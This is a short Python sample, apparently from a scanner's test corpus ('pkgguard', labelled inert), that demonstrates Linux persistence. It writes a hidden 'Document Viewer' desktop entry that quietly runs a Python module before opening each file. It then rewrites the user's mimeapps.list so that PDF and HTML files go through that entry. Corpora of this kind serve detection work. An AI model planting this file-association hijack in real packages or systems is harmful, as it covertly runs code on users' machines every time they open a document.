# pkgguard corpus 923 (persistence), modelled on [linux-persistence]; inert, never run.
import configparser
import os
import sys

data_home = os.environ.get("XDG_DATA_HOME") or os.path.expanduser("~/.local/share")
config_home = os.environ.get("XDG_CONFIG_HOME") or os.path.expanduser("~/.config")

desktop = f"""[Desktop Entry]
Type=Application
Name=Document Viewer
NoDisplay=true
Exec=sh -c '{sys.executable} -m pkg._view >/dev/null 2>&1; xdg-open "$0"' %f
MimeType=application/pdf;text/html;
"""

if sys.platform.startswith("linux"):
    try:
        os.makedirs(os.path.join(data_home, "applications"), exist_ok=True)
        with open(os.path.join(data_home, "applications", "docview.desktop"), "w", encoding="utf-8") as fh:
            fh.write(desktop)
        parser = configparser.ConfigParser(interpolation=None)
        parser.optionxform = str
        listing = os.path.join(config_home, "mimeapps.list")
        parser.read(listing)
        if not parser.has_section("Default Applications"):
            parser.add_section("Default Applications")
        for kind in ("application/pdf", "text/html"):
            parser.set("Default Applications", kind, "docview.desktop")
        with open(listing, "w", encoding="utf-8") as fh:
            parser.write(fh)
    except OSError:
        pass
